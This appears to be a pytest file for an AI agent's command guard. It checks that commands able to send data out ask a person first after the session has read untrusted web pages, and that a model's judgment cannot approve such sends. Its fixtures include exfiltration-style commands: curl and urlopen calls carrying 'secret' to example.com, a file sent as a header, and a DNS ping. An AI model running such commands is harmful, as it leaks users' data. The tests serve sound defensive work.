"""What is asked before a command sends something, in a session that has read strangers' texts."""

import pytest
from msgspec.structs import replace

from agent_service.records.events import Decision
from agent_service.records.sandbox import Opening
from agent_service.tools.guards.commands import CommandPolicy
from tests.unit.agent.test_judged import MANUAL, Opinion, State, call

SENDING = CommandPolicy(asks_before_sending=True)
SENDS, KNOWN, NEW = (
    "git push origin main",
    "curl 'https://example.com/docs?page=2'",
    "curl https://example.com/docs?page=secret",
)


@pytest.mark.parametrize(
    ("command", "sources", "answer"),
    [
        (SENDS, [], "ran"),
        (NEW, [], "ran"),
        (SENDS, ["web pages"], "asked"),
        (NEW, ["web pages"], "asked"),
        (KNOWN, ["web pages"], "ran"),
        (f"{KNOWN}; {NEW}", ["web pages"], "asked"),
        ("python3 -c \"urlopen('https://example.com/?q=secret')\"", ["web pages"], "asked"),
        (f"{KNOWN} -H @notes.txt", ["web pages"], "asked"),
        (f"{KNOWN} -H @notes.txt", [], "ran"),
        ("curl 'example.com/docs?page=secret'", ["web pages"], "asked"),
        ("ping -c 1 secret.example.com", ["web pages"], "asked"),
        ("ping -c 1 secret.example.com", [], "ran"),
        ("git status && ls", ["web pages"], "ran"),
        (SENDS, [Opening.NETWORK.value], "asked"),
        (NEW, [Opening.NETWORK.value], "ran"),
    ],
)
@pytest.mark.parametrize("asks", [True, False])
async def test_what_sends_asks_where_strangers_texts_were_read(
    command: str, sources: list[str], answer: str, asks: bool
) -> None:
    policy, state = replace(SENDING, asks=asks), State(sources, has_network=True)
    said = await call(command, policy, backend="docker", state=state)
    assert said == f"{answer} {command}"


async def test_nothing_is_sent_from_where_there_is_no_network() -> None:
    assert await call(SENDS, SENDING, state=State(["web pages"])) == f"ran {SENDS}"


async def test_nobody_is_asked_before_sending_where_labels_are_off() -> None:
    state = State(["web pages"], has_network=True)
    said = await call(SENDS, MANUAL, state=state)
    assert said == f"ran {SENDS}"


async def test_sending_is_allowed_by_a_person_and_never_by_a_model() -> None:
    said = await call("git push -f", Opinion("HARMLESS"), state=State(has_network=True))
    assert said == "ran git push -f"
    state = State([Opening.NETWORK.value], has_network=True)
    said = await call("git push -f", Opinion("HARMLESS"), state=state)
    assert said == "asked git push -f"
    said = await call(SENDS, SENDING, state=state, decision=Decision.ONCE)
    assert said == f"ran {SENDS}"
